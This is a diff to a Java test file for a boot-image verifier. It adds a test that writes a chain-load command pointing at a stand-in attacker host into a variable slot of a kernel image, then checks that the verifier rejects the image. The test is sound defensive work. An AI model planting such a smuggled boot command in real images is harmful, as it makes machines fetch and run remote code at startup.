@@ -7,6 +7,7 @@ import java.io.PrintWriter;
 import java.io.StringWriter;
 import java.net.InetAddress;
 import java.net.InetSocketAddress;
+import java.nio.charset.StandardCharsets;
 import java.nio.file.Files;
 import java.nio.file.Path;
 import java.time.Instant;
@@ -139,6 +140,22 @@ final class VerifyTest {
     assertThat(said.toString())
         .contains("plain.efi: is uefi/prod, uefi/prod.efi, bit by bit")
         .contains("but for the variables in its slot");
+  }
+
+  @Test
+  void aSlotThatHoldsCommandsIsNoOverlay() throws Exception {
+    Path own = Files.copy(tree.resolve("krn/prod"), work.resolve("own"));
+    Slot slot = slots("krn/prod").get(0);
+    byte[] bytes = Files.readAllBytes(own);
+    byte[] command = "chain http://evil.example #".getBytes(StandardCharsets.US_ASCII);
+    System.arraycopy(command, 0, bytes, (int) slot.offset(), command.length);
+    Files.write(own, bytes);
+
+    assertThat(verify(own.toString(), "--at", tree.toString())).isEqualTo(1);
+
+    assertThat(said.toString())
+        .contains("would be krn/prod")
+        .contains("its slot holds something else than variables");
   }
 
   @Test
